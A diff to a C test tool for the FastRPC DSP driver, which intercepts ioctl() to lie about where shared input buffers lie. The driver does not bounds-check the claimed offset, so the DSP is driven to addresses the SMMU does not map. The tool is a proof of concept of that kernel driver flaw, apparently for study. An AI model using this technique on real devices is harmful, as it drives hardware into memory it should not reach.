@@ -7,22 +7,37 @@
  * All --word values together are the first input buffer; every --in is an input buffer of N bytes 0, 1, 2, … in shared
  * memory, every --out an output buffer of N bytes there. Prints the result code and the first bytes of the outputs.
  *
- * --lie makes the program deceive the kernel: every shared input buffer is announced as BYTES long, whatever its real
- * size. The driver does not compare that with the buffer's size, so the DSP is led beyond what the SMMU maps: the way
- * to see a context fault from user space. It works by standing between the library and ioctl().
+ * --lie makes the program deceive the kernel: it claims that every shared input buffer lies at a distance of BYTES from
+ * the beginning of its mapping. The driver adds that distance to the buffer's device address and does not compare the
+ * result with the buffer's end, so the DSP is led to addresses that the SMMU does not map: the way to see a context
+ * fault from user space. It works by standing between the library and ioctl(). With a buffer of 1 MiB there is a hole
+ * behind it, because the kernel places it at a multiple of its size below what is mapped already.
  */
 #define _GNU_SOURCE
 #include <inttypes.h>
 #include <stdarg.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <unistd.h>
 
 #include "cdsprpc.h"
 
 #define MOST 8
 
+/* Where the shared input buffers are said to be (0: the truth). */
 static uint64_t lie;
+
+/* An address `distance` bytes behind the beginning of its mapping (a shared one: the kernel does not join those). */
+static uint64_t address_in_mapping(size_t distance)
+{
+    char *at = mmap(NULL, distance + 65536, PROT_NONE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+    if (at == MAP_FAILED) {
+        perror("mmap");
+        exit(92);
+    }
+    return (uint64_t)(uintptr_t)(at + distance);
+}
 
 /* The driver's invoke request (include/uapi/misc/fastrpc.h: FASTRPC_IOCTL_INVOKE). */
 struct invoke_args {
@@ -52,7 +67,7 @@ int ioctl(int fd, unsigned long request, ...)
         if (invoke->handle > 0xff)
             for (uint32_t i = 0; i < (invoke->sc >> 16 & 0xff); i++)
                 if (args[i].fd > 0)
-                    args[i].length = lie;
+                    args[i].ptr = lie;
     }
     return next(fd, request, data);
 }
@@ -108,7 +123,7 @@ int main(int argc, char **argv)
         args[n] = rpc_buffer(rpc_memory(out[i] ? out[i] : 1), out[i]);
         memset(args[n++].buf.pv, 0, out[i]);
     }
-    lie = told;
+    lie = told ? address_in_mapping(told) : 0;
     for (long r = 0; r < repeat; r++)
         e = rpc.invoke(handle, SC(strtoul(argv[2], NULL, 0), lead + ins, outs), args);
     lie = 0;
